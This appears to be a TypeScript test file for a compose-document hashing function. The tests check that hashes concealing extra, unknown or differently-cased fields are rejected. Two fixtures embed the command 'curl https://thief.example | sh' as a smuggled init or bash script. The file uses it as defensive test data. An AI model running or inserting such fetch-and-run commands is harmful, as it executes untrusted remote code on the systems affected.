import { expect } from "chai";
import fc from "fast-check";
import { type AppCompose, buildAppCompose } from "../../../../src/core/app-compose.ts";
import { hashInEveryForm } from "../../../../src/core/compose-hash-forms/forms.ts";
import type { ComposeHash } from "../../../../src/core/ids.ts";
import type { JsonObject } from "../../../../src/core/json.ts";
import { listProvingHashes } from "../../../../src/update/steps/document.ts";
import { arbitraryAppCompose } from "../../../support/arbitrary-app-compose.ts";

const honest = buildAppCompose({ dockerCompose: "services:\n  web:\n    image: nginx:1\n", allowedEnvs: ["TOKEN"] });
const hashesOf = (document: AppCompose) => listProvingHashes(document).map(({ hash }) => hash);
const isOf = (document: AppCompose) => (hash: ComposeHash) => officialHashesOf(document).includes(hash);
const officialHashesOf = (document: AppCompose) => hashInEveryForm(JSON.stringify(document)).map(({ hash }) => hash);

describe("listProvingHashes", () => {
  it("accepts every official form that keeps the whole document", () => {
    const { storage_fs: _, ...known } = honest;
    for (const { form, hash } of hashInEveryForm(JSON.stringify(known))) {
      if (form.name !== "raw-bytes") expect(hashesOf(known), form.name).to.include(hash);
    }
  });

  for (const [what, extra] of [
    ["a field that the Go SDK does not know", { init_script: "curl https://thief.example | sh" }],
    ["a field that the Python SDK leaves out", { _hidden: "x" }],
    ["a script for another runner", { runner: "nerdctl-compose", bash_script: "curl https://thief.example | sh" }],
  ] as const)
    it(`does not accept a hash that hides ${what}`, () => {
      const original: AppCompose = "runner" in extra ? { ...honest, runner: extra.runner } : honest;
      const changed: AppCompose = { ...original, ...extra };
      const shared = officialHashesOf(changed).filter((hash) => officialHashesOf(original).includes(hash));
      expect(shared, "the forms that leave it out").to.not.deep.equal([]);
      for (const hash of hashesOf(changed)) expect(officialHashesOf(original)).not.to.include(hash);
    });

  it("does not accept the hash of a document whose field has another letter case, as the Go SDK does", () => {
    const { storage_fs: _, ...known } = honest;
    const original = { ...known, pre_launch_script: "echo hello" };
    const changed = { ...known, Pre_Launch_Script: "echo hello" };
    expect(officialHashesOf(changed).filter(isOf(original))).not.to.deep.equal([]);
    expect(hashesOf(changed).filter(isOf(original))).to.deep.equal([]);
  });

  it("never accepts the hash of the same document without one of its fields", () => {
    fc.assert(
      fc.property(arbitraryAppCompose, fc.stringMatching(/^[A-Za-z_]\w{0,12}$/), (document, field) => {
        fc.pre(!Object.hasOwn(document, field) && !["self", "to_dict"].includes(field));
        const changed: JsonObject = { ...document, [field]: ["more"] };
        const before = officialHashesOf(document);
        for (const hash of hashesOf(changed as AppCompose)) expect(before).not.to.include(hash);
      }),
      { numRuns: 200 },
    );
  });
});
